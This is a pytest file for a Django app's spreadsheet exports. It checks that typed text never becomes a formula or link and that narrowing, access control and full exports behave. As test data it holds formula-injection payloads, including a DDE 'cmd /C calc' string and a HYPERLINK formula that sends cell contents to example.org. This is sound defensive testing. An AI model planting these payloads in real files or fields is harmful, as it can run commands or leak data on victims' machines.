"""Sheets out: whatever is typed, no cell is a formula, and every text is as it was."""

import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.contrib import admin
from django.urls import get_resolver

from renda.models import Body, Congress, Deputy, Event, Membership, Setting, User
from renda.sheets import Column, sheet
from supervision.models import Extension, Opinion, Problem, ReturnRequest
from tests.conftest import HAND_OVER, noon
from tests.renda.office import BODIES, Office
from tests.supervision.cast import ask_extension, handed, of, problems_of

ROOT = Path(__file__).parents[2]

MARKS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠")
ENDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org/?"&A1,"点这里")')
PAYLOADS = [f"{mark}{end}" for mark in MARKS for end in ENDS]
LINKS = ["http://example.org", "mailto:a@example.org", "internal:Sheet1!A1", "external:c:\\a.xlsx"]


def opened(answer):
    content = answer if isinstance(answer, bytes) else b"".join(answer.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(content))


def cells(answer):
    return [it for page in opened(answer) for row in page for it in row if it.value is not None]


def plain(text):
    """As Excel keeps a text: its end of a line is one character."""
    return str(text).replace("\r\n", "\n").replace("\r", "\n").replace("_x000D_", "\n")


def rigid(found):
    """No cell is a formula or a link."""
    return [it.coordinate for it in found if it.data_type == "f" or it.hyperlink] == []


@pytest.mark.parametrize("payload", [*PAYLOADS, *LINKS, "00123", "1e10", "13900000001", "TRUE"])
def test_a_text_stays_a_text_and_the_same(payload):
    columns = [Column("=列", 10, str)]
    found = cells(sheet("=表", date(2026, 4, 2), columns, [payload], 1))
    assert rigid(found)
    assert [it.data_type for it in found] == ["s", "s"]
    assert plain(found[1].value) == plain(payload)


def test_days_are_days_and_numbers_numbers():
    columns = [Column("日", 10, lambda it: it[0]), Column("数", 10, lambda it: it[1])]
    day, moment = (date(2026, 4, 2), 3), (noon(HAND_OVER), 2.5)
    first, second = list(opened(sheet("表", day[0], columns, [day, moment], 2)).active)[1:]
    assert (first[0].is_date, first[0].value.date(), first[1].value) == (True, day[0], 3)
    assert (second[0].is_date, second[0].value.hour, second[1].value) == (True, 12, 2.5)


def test_a_sheet_that_was_cut_says_so():
    columns = [Column("名", 10, str)]
    assert (
        "共9行，只导出前1行" in cells(sheet("表", date(2026, 4, 2), columns, ["甲"], 9))[-1].value
    )


# Every sheet there is


KINDS_OF_CASES = ("opinion", "problem", "undertaking", "extension", "returnrequest")
PAGES = {  # by the name of its address: who opens it, and where
    "overview": ("zhou", "/overview/"),
    "overview_export": ("zhou", "/overview/bodies/{water.pk}/export/"),
    "record": ("guan", "/record/"),
    "notices": ("gao", "/notices/"),
    "parameters": ("wu", "/parameters/"),
    "calendar_year": ("wu", "/calendar/2026/"),
    "posts": ("guan", "/posts/"),
    "intake_template": ("guan", "/intake/new/bodies/template/"),
    "intake_marked": ("guan", "{intake}marked/"),
    **{f"{it}_detail": ("wu", f"/supervision/{it}s/{{{it}.pk}}/") for it in KINDS_OF_CASES},
    **{f"{it}_export": ("wu", f"/supervision/{it}s/export/") for it in KINDS_OF_CASES},
    **{
        f"admin:renda_{it._meta.model_name}_export": (
            "guan", f"/admin/renda/{it._meta.model_name}/export/",
        )
        for it in admin.site._registry
    },
}  # fmt: skip
WORDLESS = {  # in this county nothing that people write stands in them
    ("overview", "months"), ("overview", "ahead"), ("calendar_year", "days"), ("posts", "silent"),
    ("posts", "ending"), ("admin:renda_calendaryear_export", ""),
    ("admin:renda_session_export", ""), ("admin:renda_term_export", ""),
}  # fmt: skip


def sheets():
    """Yield the name of each address that gives a sheet, and of which table of its page."""
    for name, view, route in views(get_resolver(), "", ""):
        yield from ((name, it) for it in getattr(view, "sheets", ()))
        if re.search(r"/(export|template|marked)/$", route):
            yield name, ""


def views(resolver, before, space):
    for it in resolver.url_patterns:
        route = before + str(it.pattern)
        if hasattr(it, "url_patterns"):
            yield from views(it, route, f"{it.namespace}:" if it.namespace else space)
        else:
            yield f"{space}{it.name}", getattr(it.callback, "view_class", None), route


def test_every_sheet_is_among_those_that_are_opened_here():
    assert {name for name, _ in sheets()} == {*PAGES}


def test_every_address_that_answers_with_a_sheet_is_known_by_its_end():
    """What writes sheets is reached through `Exports`, or by an address that says so."""
    writers = {
        path.name
        for folder in ("renda/views", "renda/admin", "supervision/views")
        for path in (ROOT / folder).glob("*.py")
        if re.search(r"\b(sheet|book|template|marked)\(", path.read_text("utf-8"))
    }
    assert writers == {"exports.py", "listing.py", "overview.py", "intake.py", "own.py"}


@pytest.fixture
def smuggled(county, act):
    """A county in which every word that can be typed looks like a formula."""
    opinion = handed(act, county)
    county.opinion, county.undertaking = opinion, of(opinion, county.water)
    county.problem = problems_of(opinion, county.water)[0]
    ask_extension(act, county.gao, county.undertaking, HAND_OVER, date(2026, 11, 2))
    facts = {"reason": PAYLOADS[0], "problems": [county.problem.pk]}
    page = f"/supervision/under/{county.undertaking.pk}/returnrequest/new/"
    assert act.post(county.gao, page, HAND_OVER, **facts).status_code == 302
    county.extension, county.returnrequest = Extension.objects.get(), ReturnRequest.objects.get()
    office = Office(act, county.guan)
    office.upload("bodies", BODIES, *(f'"{it}",无此类,,' for it in MARKS[:4]))
    county.intake = office.address
    rule = {"name": "opinion.redo", "value": "20d", "effective_on": HAND_OVER}
    Setting(congress=county.congress, basis=PAYLOADS[0], **rule).save(
        by=county.guan, at=noon(HAND_OVER)
    )
    Congress.objects.filter(pk=county.congress.pk).update(name=PAYLOADS[0])
    Deputy.objects.create(user=county.ma, congress=county.congress, from_on=date(2022, 1, 1))
    for place, payload in enumerate(PAYLOADS):
        _smuggle(county, payload, place)
    return county


def _smuggle(county, payload, place):
    bodies, people = list(Body.objects.order_by("pk")), list(User.objects.order_by("pk"))
    if place < len(bodies):
        Body.objects.filter(pk=bodies[place].pk).update(name=payload[:90])
    if place < len(people):
        User.objects.filter(pk=people[place].pk).update(name=payload[:30], phone=payload[:20])
    problems = list(Problem.objects.order_by("pk"))
    if place < len(problems):
        texts = dict.fromkeys(("text", "demand", "measure", "speaker"), payload[:30])
        Problem.objects.filter(pk=problems[place].pk).update(**texts)
    Opinion.objects.update(title=payload[:90])
    Deputy.objects.update(delegation=payload[:50], district=payload[:50])


@pytest.mark.parametrize(("name", "table"), sorted(sheets()))
def test_no_sheet_holds_a_formula(smuggled, act, name, table):
    who, address = PAGES[name]
    address = address.format(**vars(smuggled)) + (f"?sheet={table}" if table else "")
    answer = act.see(getattr(smuggled, who), address, HAND_OVER)
    assert answer["Content-Type"].endswith("spreadsheetml.sheet")
    found = cells(answer)
    assert found and rigid(found)
    if (name, table) not in WORDLESS:
        assert any(it.value and str(it.value).lstrip()[:1] in "=+-@＝＋－＠" for it in found)


def test_the_office_takes_along_what_it_has_narrowed_down_and_no_more(county, act):
    answer = act.see(county.guan, "/admin/renda/body/export/?q=水利", HAND_OVER)
    names = [row[0].value for row in opened(answer).active]
    assert names == ["名称", "县水利局"]
    answer = act.see(county.guan, "/admin/renda/user/export/", HAND_OVER)
    assert county.yuan.name not in [row[0].value for row in opened(answer).active]
    answer = act.see(county.guan, "/admin/renda/membership/export/", HAND_OVER)
    here = Membership.objects.filter(body__congress=county.congress).count()
    assert opened(answer).active.max_row == here + 1


def test_a_sheet_is_only_for_whom_its_page_is(county, act):
    for person, page in (
        (county.gao, "/overview/"),
        (county.wu, "/record/"),
        (county.wu, "/posts/"),
    ):
        assert act.see(person, f"{page}?sheet={page.strip('/')}", HAND_OVER).status_code == 403


def test_what_a_page_shows_in_parts_its_sheet_holds_whole(county, act):
    for place in range(60):
        Event.objects.create(
            congress=county.congress, subject=county.water, name="change", label=f"变更{place}",
            actor=county.guan, at=noon(HAND_OVER), on=HAND_OVER, facts={"row": "县水利局"},
        )  # fmt: skip
    answer = act.see(county.guan, "/record/?sheet=record", HAND_OVER)
    labels = [row[1].value for row in opened(answer).active]
    assert {f"变更{place}" for place in range(60)} <= set(labels)
